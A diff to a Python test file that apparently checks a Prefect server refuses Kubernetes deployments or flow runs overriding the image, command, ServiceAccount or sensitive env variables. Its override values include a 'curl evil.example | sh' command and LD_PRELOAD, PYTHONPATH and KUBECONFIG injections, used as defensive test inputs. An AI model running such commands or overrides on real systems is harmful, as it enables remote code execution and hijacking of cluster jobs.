@@ -1,7 +1,9 @@
 """The Kubernetes pool's template fixes what a run could otherwise change: its image (by
-digest), command, ServiceAccount and cluster credentials. A real Prefect server refuses
-(422) a deployment or a flow run that sets the image, command or ServiceAccount, and takes
-what prefect.yaml's Kubernetes deployment sets."""
+digest), command, ServiceAccount, cluster credentials and the signing key's path, and
+limits env to the flow's own settings. A real Prefect server refuses (422) a deployment or
+a flow run that sets the image, command or ServiceAccount, or an env variable the loader,
+Python, Kubernetes or the signing would read, and takes what prefect.yaml's Kubernetes
+deployment sets."""
 
 from __future__ import annotations
 
@@ -73,6 +75,11 @@ def test_prefect_refuses_a_run_that_would_change_what_runs_or_as_whom(
         "image": "evil.example/shell:1",
         "command": "sh -c 'curl evil.example | sh'",
         "service_account_name": "prefect-worker",
+        # what the loader, Python or the signing reads, in a Job under the handoff account
+        **{
+            f"env {name}": {name: "/tmp/x"}
+            for name in ("LD_PRELOAD", "PYTHONPATH", "KUBECONFIG", "HANDOFF_SIGNING_KEY_FILE")
+        },
     }
     with prefect_client(prefect.api_url) as client:
         client.create_work_pool(
@@ -80,10 +87,12 @@ def test_prefect_refuses_a_run_that_would_change_what_runs_or_as_whom(
         )
         flow_id = client.create_flow_from_name("handoff")
         for name, value in overrides.items():  # a deployment that sets one
+            variables = _variable(name, value)
             with pytest.raises(PrefectHTTPStatusError) as refused:
                 made = client.create_deployment(
-                    flow_id, f"{pool}-{name}", work_pool_name=pool, job_variables={name: value}
-                )
+                    flow_id, f"{pool}-{name.split()[-1]}", work_pool_name=pool,
+                    job_variables=variables,
+                )  # fmt: skip
                 pytest.fail(f"a deployment setting {name} was accepted: {made}")
             assert refused.value.response.status_code == 422, name
         # prefect.yaml's own job variables are accepted
@@ -93,16 +102,22 @@ def test_prefect_refuses_a_run_that_would_change_what_runs_or_as_whom(
         for name, value in overrides.items():  # a flow run that sets one
             with pytest.raises(PrefectHTTPStatusError) as refused:
                 run = client.create_flow_run_from_deployment(
-                    deployment, job_variables={name: value}
+                    deployment, job_variables=_variable(name, value)
                 )
                 pytest.fail(f"a flow run setting {name} was accepted: {run.id}")
             assert refused.value.response.status_code == 422, name
-            assert name in json.dumps(refused.value.response.json()), refused.value.response.text
+            named = name.split()[-1]
+            assert named in json.dumps(refused.value.response.json()), refused.value.response.text
         allowed = {"namespace": "llm-serving", "env": {"HANDOFF_POD_ACCESS": "port-forward"}}
         run = client.create_flow_run_from_deployment(deployment, job_variables=allowed)
         assert run.job_variables == allowed
         client.delete_deployment(deployment)
         client.delete_work_pool(pool)
+
+
+def _variable(name: str, value: Any) -> dict[str, Any]:
+    """`env NAME` stands for the env variable with that one name."""
+    return {"env": value} if name.startswith("env ") else {name: value}
 
 
 def test_the_worker_image_is_the_locked_prefect_version() -> None:
